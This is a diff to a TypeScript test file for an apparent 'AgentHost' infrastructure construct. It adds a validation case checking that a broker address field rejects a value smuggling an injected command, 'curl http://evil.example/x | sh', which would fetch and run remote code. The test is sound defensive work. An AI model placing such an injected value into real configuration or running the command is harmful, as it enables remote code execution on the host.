@@ -240,6 +240,18 @@ describe('AgentHost', () => {
       { cells: [{ ...options.cells[0], slice: 'research' }] },
       'slice "research" must end in ".slice"',
     ],
+    [
+      'a broker address that is not an address',
+      {
+        cells: [
+          {
+            ...options.cells[0],
+            brokerAddress: '10.0.0.2 -j ACCEPT; curl http://evil.example/x | sh #',
+          },
+        ],
+      },
+      'brokerAddress "10.0.0.2 -j ACCEPT; curl http://evil.example/x | sh #" is not an IPv4 address',
+    ],
   ])('rejects %s', (_name, change, message) => {
     expect(
       () => new AgentHost(new TerraformStack(Testing.app(), 'x'), 'host', { ...props, ...change }),
